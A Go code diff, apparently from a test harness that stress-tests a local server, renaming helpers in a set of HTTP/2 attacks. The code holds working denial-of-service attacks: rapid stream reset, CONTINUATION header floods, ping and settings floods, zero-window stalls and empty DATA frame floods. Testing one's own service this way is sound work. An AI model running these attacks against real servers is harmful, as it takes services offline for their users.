@@ -29,8 +29,8 @@ func frame2(kind, flags byte, stream uint32, payload string) string {
 	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
 }
 
-// headers2 is a header block (RFC 7541): fields of the static table, and literals
-// without an index.
+// headers2 returns a header block (RFC 7541) of fields of the static table and literals without an
+// index.
 func headers2(method byte, path, token string) string {
 	literal := func(index byte, value string) string { return string([]byte{index, byte(len(value))}) + value }
 	block := string([]byte{method, 0x87}) + literal(0x04, path) + literal(0x01, "127.0.0.1")
@@ -45,10 +45,10 @@ const (
 	post2 = 0x83
 )
 
-// over2 names an attack over so many connections of HTTP/2.
-func over2(name string, connections int, talk func(ctx context.Context, c net.Conn, token string)) attack {
+// http2Attack returns an attack over a number of HTTP/2 connections.
+func http2Attack(name string, connections int, talk func(ctx context.Context, c net.Conn, token string)) attack {
 	return attack{"HTTP/2: " + name, func(ctx context.Context, t *target) error {
-		if err := t.long(ctx); err != nil {
+		if err := t.fillLong(ctx); err != nil {
 			return err
 		}
 		held, cancel := context.WithTimeout(ctx, 6*time.Second)
@@ -64,7 +64,7 @@ func over2(name string, connections int, talk func(ctx context.Context, c net.Co
 				stop := context.AfterFunc(held, func() { _ = c.Close() })
 				defer stop()
 				defer func() { _ = c.Close() }()
-				if send(c, preface+frame2(typeSettings, 0, 0, "")) {
+				if write(c, preface+frame2(typeSettings, 0, 0, "")) {
 					talk(held, c, t.token)
 				}
 			}()
@@ -76,12 +76,12 @@ func over2(name string, connections int, talk func(ctx context.Context, c net.Co
 	}}
 }
 
-// repeat sends what make returns for each stream, so many times, and then waits.
+// repeat sends what make returns for each of count streams, and then waits.
 func repeat(count int, make func(stream uint32, token string) string) func(context.Context, net.Conn, string) {
 	return func(ctx context.Context, c net.Conn, token string) {
 		go func() { _, _ = io.Copy(io.Discard, c) }() // ends when over2 closes c
 		for i := range count {
-			if !send(c, make(uint32(2*i+1), token)) {
+			if !write(c, make(uint32(2*i+1), token)) {
 				return
 			}
 		}
@@ -91,36 +91,36 @@ func repeat(count int, make func(stream uint32, token string) string) func(conte
 
 func frames2() []attack {
 	return []attack{
-		over2("20,000 streams, reset at once", 4, repeat(20_000, func(stream uint32, token string) string {
+		http2Attack("20,000 streams, reset at once", 4, repeat(20_000, func(stream uint32, token string) string {
 			return frame2(typeHeaders, endStream|endHeaders, stream, headers2(get2, "/v1/stats", token)) + frame2(typeReset, 0, stream, "\x00\x00\x00\x08")
 		})),
-		over2("10,000 streams that stay open", 4, repeat(10_000, func(stream uint32, token string) string {
+		http2Attack("10,000 streams that stay open", 4, repeat(10_000, func(stream uint32, token string) string {
 			return frame2(typeHeaders, endHeaders, stream, headers2(post2, "/v1/messages", token))
 		})),
-		over2("headers that go on for ever", 4, func(ctx context.Context, c net.Conn, token string) {
+		http2Attack("headers that go on for ever", 4, func(ctx context.Context, c net.Conn, token string) {
 			said := frame2(typeHeaders, endStream, 1, headers2(get2, "/healthz", token))
 			for range 20_000 {
-				if !send(c, said) {
+				if !write(c, said) {
 					return
 				}
 				said = frame2(typeContinuation, 0, 1, strings.Repeat("\x00\x01a\x01b", 100))
 			}
 			<-ctx.Done()
 		}),
-		over2("settings and pings", 8, repeat(50_000, func(uint32, string) string {
+		http2Attack("settings and pings", 8, repeat(50_000, func(uint32, string) string {
 			return frame2(typeSettings, 0, 0, "") + frame2(typePing, 0, 0, "12345678")
 		})),
-		over2("pages into a window of nothing", 8, repeat(200, func(stream uint32, token string) string {
+		http2Attack("pages into a window of nothing", 8, repeat(200, func(stream uint32, token string) string {
 			said := frame2(typeHeaders, endStream|endHeaders, stream, headers2(get2, "/v1/threads/long/entries?limit=500", token))
 			if stream == 1 {
 				said = frame2(typeSettings, 0, 0, "\x00\x04\x00\x00\x00\x00") + said
 			}
 			return said
 		})),
-		over2("empty pieces of a body", 4, repeat(1, func(stream uint32, token string) string {
+		http2Attack("empty pieces of a body", 4, repeat(1, func(stream uint32, token string) string {
 			return frame2(typeHeaders, endHeaders, stream, headers2(post2, "/v1/messages", token)) + strings.Repeat(frame2(typeData, 0, stream, ""), 100_000)
 		})),
-		over2("windows that grow", 4, repeat(50_000, func(stream uint32, _ string) string {
+		http2Attack("windows that grow", 4, repeat(50_000, func(stream uint32, _ string) string {
 			return frame2(typeWindow, 0, 0, "\x00\x00\x00\x01")
 		})),
 	}
